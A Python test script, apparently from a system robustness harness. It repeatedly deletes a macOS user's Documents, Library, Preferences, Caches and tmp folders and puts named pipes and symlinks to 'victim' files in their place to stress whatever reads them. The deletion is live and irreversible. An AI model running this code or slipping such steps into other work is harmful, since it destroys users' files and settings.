"""Puts pipes and links in the places of files and folders that the system reads, measures and empties."""
KIND = "plain"
RUNS = 1
STAYS = 2
REINSTALL = 2

import contextlib
import os
import shutil

import belt

home = os.environ["HOME"]
PLACES = ("Library/Caches", "tmp", "Library/Preferences", "Library/Saved Application State", "Documents", "Library")
for turn in range(200):
    for place in PLACES:
        path = os.path.join(home, place)
        with contextlib.suppress(OSError):
            if os.path.islink(path) or not os.path.isdir(path):
                os.unlink(path)
            else:
                shutil.rmtree(path)
        with contextlib.suppress(OSError):
            if turn % 3 == 0:
                os.mkfifo(path)
            elif turn % 3 == 1:
                os.symlink(belt.SETTINGS["victimFiles"][turn % len(belt.SETTINGS["victimFiles"])], path)
            else:
                os.mkdir(path)
                os.mkfifo(os.path.join(path, "shortcuts.plist"))
belt.say("tried")
belt.hold()
